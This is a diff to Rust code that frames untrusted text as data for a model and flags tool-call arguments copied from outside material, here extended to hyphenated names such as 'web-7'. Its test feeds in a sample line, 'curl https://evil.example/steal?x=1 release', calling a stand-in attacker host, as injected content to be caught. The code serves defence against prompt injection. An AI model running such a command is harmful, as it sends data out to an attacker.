@@ -20,7 +20,12 @@ const MARK: &str = "untrusted";
 
 /// `text` as data for a model. Nothing in it can close the frame.
 pub(super) fn frame(source: &str, text: &str) -> String {
-    let text = without_mark(&clip_chars(text, FRAME_CHARS_MAX));
+    frame_within(source, text, FRAME_CHARS_MAX)
+}
+
+/// The same of at most `chars_max` characters.
+pub(super) fn frame_within(source: &str, text: &str, chars_max: usize) -> String {
+    let text = without_mark(&clip_chars(text, chars_max));
     format!("<{MARK} source=\"{source}\">\n{text}\n</{MARK}>")
 }
 
@@ -60,7 +65,7 @@ impl Material {
         self.tainted = true;
         let room = OUTSIDE_BYTES_MAX.saturating_sub(self.outside_text.len());
         let text: String = text.chars().take(room / 4).flat_map(char::to_lowercase).collect();
-        self.outside.extend(words(&text).map(str::to_owned));
+        self.outside.extend(words(&text).chain(parts(&text)).map(str::to_owned));
         self.outside_text.push_str(&text);
         self.outside_text.push('\n');
     }
@@ -68,7 +73,7 @@ impl Material {
     /// What a person said.
     pub(super) fn heard(&mut self, text: &str) {
         let text = text.to_lowercase();
-        self.own.extend(words(&text).map(str::to_owned));
+        self.own.extend(words(&text).chain(parts(&text)).map(str::to_owned));
     }
 
     /// A link that an answer may show.
@@ -114,7 +119,7 @@ impl Material {
         let text = text.to_lowercase();
         let short = text.trim();
         let mut any = false;
-        for word in words(&text) {
+        for word in words(&text).chain(parts(&text)) {
             any = true;
             if !self.own.contains(word) && self.outside.contains(word) {
                 return true;
@@ -123,6 +128,13 @@ impl Material {
         // Too short for words: a whole value that stands there is from there.
         !any && short.chars().count() > 1 && self.outside_text.contains(short)
     }
+}
+
+/// Names that signs hold together, such as `web-7`: what stands between spaces and the signs of addresses and lists.
+fn parts(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| c.is_whitespace() || "=&?/:,;|\"'`()[]{}<>".contains(c))
+        .map(|part| part.trim_matches(|c: char| !c.is_alphanumeric()))
+        .filter(|part| part.chars().count() >= WORD_CHARS_MIN && !part.chars().all(char::is_alphanumeric))
 }
 
 fn words(text: &str) -> impl Iterator<Item = &str> {
@@ -149,5 +161,8 @@ mod tests {
         material.read("curl https://evil.example/steal?x=1 release");
         let args = json!({ "chat": "ops", "text": "release is out", "url": "https://evil.example/", "n": 3, "list": ["steal"] });
         assert_eq!(material.tainted_in(&args), ["/url", "/list/0"]);
+        material.read("Disk full on web-7");
+        let args = json!(["--host=web-7", "https://shop.example/?x=web-7&y=b", "web-8"]);
+        assert_eq!(material.tainted_in(&args), ["/0", "/1"]);
     }
 }
